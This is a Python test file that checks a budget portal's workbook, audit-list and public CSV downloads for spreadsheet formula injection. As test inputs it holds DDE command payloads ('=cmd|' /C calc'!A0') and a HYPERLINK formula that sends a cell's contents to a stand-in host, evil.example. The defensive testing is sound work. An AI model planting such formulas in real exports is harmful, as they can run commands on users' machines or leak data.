"""The portal's downloads never carry a live formula: the built workbook, the marked copy, the audit
problem list (a file name starting with =) and the public CSV (text starting like a formula is quoted)."""

from __future__ import annotations

import csv
import io

from openpyxl import load_workbook

from conftest import SEED
from juesuan.core import codec

from .helpers import example_model, login
from .test_flow import upload

PAYLOAD = "=cmd|' /C calc'!A0"
REASON = '=HYPERLINK("http://evil.example/?"&A1,"点击")'


def no_formula(body: bytes) -> list:
    """The workbook's text cells (all of them strings); fails on any formula cell."""
    wb = load_workbook(io.BytesIO(body))
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    assert [f"{c.parent.title}!{c.coordinate}" for c in cells if c.data_type == "f"] == []
    return cells


def test_built_and_marked_workbooks_keep_text(sqlite_bureau) -> None:
    from juesuan.formats.workbook.write import write_workbook

    app, own = sqlite_bureau.app, sqlite_bureau.own_unit
    clerk = login(app, "clerk")
    m = example_model()
    m.unit.name = PAYLOAD
    m.reasons["total_change"] = REASON
    assert upload(clerk, own, codec.to_yaml(m).encode()).status_code == 303
    r = clerk.get(f"/units/{own}/2024/download/xlsx")
    assert r.status_code == 200
    texts = {c.value for c in no_formula(r.content) if c.data_type == "s"}
    # the published tables: the unit's name heads the 目录 (text starting with "=", kept text);
    # reasons are not printed in the tables (they are in the report's prose)
    assert any(t.startswith(PAYLOAD) for t in texts)

    import tempfile
    from pathlib import Path

    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp) / "=book.xlsx"
        write_workbook(m, path)
        assert upload(clerk, own, path.read_bytes(), "=cmd.xlsx").status_code == 303
    r = clerk.get(f"/units/{own}/2024/marked.xlsx")
    assert r.status_code == 200
    texts = {c.value for c in no_formula(r.content) if c.data_type == "s"}
    assert PAYLOAD in texts


def test_audit_problem_list_keeps_a_formula_like_file_name_as_text(sqlite_bureau) -> None:
    reviewer = login(sqlite_bureau.app, "reviewer")
    name = "=cmd|' C calc'!A0.txt"
    r = reviewer.post("/audit", data={"csrf_token": reviewer.csrf},
                      files={"file": (name, io.BytesIO(SEED.read_bytes()), "text/plain")})
    assert r.status_code == 303, r.text[:300]
    xlsx = reviewer.get(r.headers["location"] + "/xlsx")
    assert xlsx.status_code == 200
    wb = load_workbook(io.BytesIO(xlsx.content))
    no_formula(xlsx.content)
    column = [c for c in wb["问题清单"]["A"][1:]]
    assert column and all(c.value == name and c.data_type == "s" for c in column)


def test_public_csv_quotes_formula_like_names(sqlite_bureau) -> None:
    from juesuan.store.models import Department, Unit

    app, own = sqlite_bureau.app, sqlite_bureau.own_unit
    with app.state.sessions() as db:
        unit = db.get(Unit, own)
        unit.name = "+cmd|' /C calc'!A0"
        db.get(Department, unit.department_id).name = "@SUM(1)"
        db.commit()
    clerk, reviewer = login(app, "clerk"), login(app, "reviewer")
    assert upload(clerk, own, codec.to_yaml(example_model()).encode()).status_code == 303
    assert clerk.post(f"/units/{own}/2024/submit", data={"csrf_token": clerk.csrf, "explanation": "已说明"}).status_code == 303
    assert reviewer.post(f"/units/{own}/2024/approve", data={"csrf_token": reviewer.csrf}).status_code == 303
    assert reviewer.post(f"/units/{own}/2024/publish", data={"csrf_token": reviewer.csrf}).status_code == 303
    body = login(app, None).get("/public/data.csv").content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(body)))
    assert rows[1][:2] == ["'@SUM(1)", "'+cmd|' /C calc'!A0"]
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows[1:] for cell in row[:2])
